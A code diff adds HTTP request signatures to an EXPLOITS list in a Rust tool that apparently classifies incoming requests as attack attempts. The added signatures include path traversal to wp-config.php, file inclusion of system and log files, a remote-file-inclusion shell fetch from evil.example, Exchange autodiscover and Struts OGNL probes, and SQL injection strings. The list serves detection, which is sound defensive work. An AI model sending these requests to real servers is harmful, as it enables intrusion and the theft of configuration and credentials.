@@ -9,6 +9,23 @@ const BROWSER: &str = "Mozilla/5.0";
 
 /// Single requests that are attempts whatever their outcome.
 const EXPLOITS: &[(&str, &str)] = &[
+    ("GET", "/download.php?file=../wp-config.php"),
+    ("GET", "/index.php?page=/etc/os-release"),
+    ("GET", "/index.php?page=C:/xampp/apache/logs/access.log"),
+    ("GET", "/index.php?file=config.php%00.html"),
+    ("GET", "/ftp/package.json.bak%2500.md"),
+    ("GET", "/dvwa/vulnerabilities/fi/?page=http://evil.example/shell.txt"),
+    ("GET", "/autodiscover/autodiscover.json?a@foo.var/mapi/nspi/?&Email=x"),
+    ("POST", "/ws/v1/cluster/apps/new-application"),
+    ("POST", "/webtools/control/forgotPassword;/ProgramExport"),
+    ("GET", "/index.action?redirect%3A%24%7B%23a%3D1%7D"),
+    ("POST", "/tmUnblock.cgi"),
+    ("PUT", "/fileserver/test.txt"),
+    ("GET", "/index.php?-s"),
+    ("GET", "/?XDEBUG_SESSION_START=phpstorm"),
+    ("POST", "/wp-json/wp/v2/posts/123?id=123abc"),
+    ("GET", "/login.php?user='or''='&pass=x"),
+    ("GET", "/item.php?id=1%20AND%20GREATEST%281%2C2%29%3D2"),
     ("GET", "/vendor/htmlawed/htmlawed/htmLawedTest.php"),
     ("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&append=1"),
     ("GET", "/autodiscover/autodiscover.json?a@b.c/owa/&Email=x&Protocol=PowerShell"),
